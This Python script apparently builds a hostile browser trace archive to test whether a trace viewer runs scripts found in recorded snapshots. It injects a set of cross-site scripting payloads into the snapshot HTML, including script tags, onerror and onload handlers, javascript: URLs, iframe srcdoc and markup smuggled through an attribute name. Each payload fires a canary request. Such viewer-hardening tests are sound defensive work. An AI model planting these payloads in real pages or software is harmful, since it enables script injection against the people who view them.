"""A trace whose snapshot tries in every known way to run scripts where it is looked at.

python hostile_trace.py TRACE.zip HOSTILE.zip ADDRESS   (ADDRESS: where a viewer will find HOSTILE.zip)
"""

import json
import sys
import zipfile
from urllib.parse import quote

PAGE = "resources/hostile.html"
SCRIPT = "resources/hostile.js"


def code(way: str) -> str:
    """What would tell that it ran: a request in the name of who looks."""
    return f"fetch('/api/user?ran={way}');top.document.title='{way}'"


def markup(address: str) -> str:
    page, script = (f"/trace/file/{name}?trace={quote(address, safe='')}" for name in (PAGE, SCRIPT))
    return "".join(
        [
            f"<script>{code('script')}</script>",
            f'<img src=x onerror="{code("handler")}">',
            f'<svg onload="{code("svg")}"></svg>',
            f"<script src='{script}'></script>",
            f'<iframe srcdoc="<script>{code("srcdoc")}</script>"></iframe>',
            f'<iframe src="javascript:{code("address")}"></iframe>',
            f"<iframe src='{page}'></iframe>",
            f"<embed src='{page}'><object data='{page}'></object>",
            "<img src='http://elsewhere.example/image'><iframe src='http://elsewhere.example/frame'></iframe>",
            "<style>body { background: url(http://elsewhere.example/style) }</style>",
            f'<a id=way href="javascript:{code("link")}">A link</a>',
        ]
    )


def hostile(event: dict, address: str) -> dict:
    """Names of attributes are the one thing that the viewer does not look at."""
    if event["type"] == "frame-snapshot" and event["snapshot"]["isMainFrame"]:
        names = {f"x>{markup(address)}<p y": ""}
        event["snapshot"]["html"] = [
            "HTML",
            {},
            ["HEAD", {}],
            [
                "BODY",
                {},
                ["SCRIPT", {}, code("element")],
                ["IMG", {"src": "x", "onerror": code("attribute")}],
                ["A", {"href": f"javascript:{code('anchor')}"}, "Another link"],
                ["P", names, "A hostile page"],
            ],
        ]
    return event


def resource(example: dict, name: str, media_type: str) -> dict:
    found = json.loads(json.dumps(example))
    found["snapshot"]["request"]["url"] = f"http://shop.example/{name}"
    found["snapshot"]["response"]["content"] |= {"mimeType": media_type, "_file": name}
    return found


def events(text: str) -> list[dict]:
    return [json.loads(line) for line in text.splitlines()]


def main(source: str, target: str, address: str) -> None:
    with zipfile.ZipFile(source) as trace, zipfile.ZipFile(target, "w") as changed:
        shown = [hostile(event, address) for event in events(trace.read("trace.trace").decode())]
        loaded = events(trace.read("trace.network").decode())
        loaded += [resource(loaded[-1], PAGE, "text/html"), resource(loaded[-1], SCRIPT, "text/javascript")]
        changed.writestr("trace.trace", "\n".join(map(json.dumps, shown)))
        changed.writestr("trace.network", "\n".join(map(json.dumps, loaded)))
        changed.writestr(PAGE, f"<!doctype html><p>Hostile</p><script>{code('file')}</script>")
        changed.writestr(SCRIPT, code("file-script"))


if __name__ == "__main__":
    main(*sys.argv[1:])
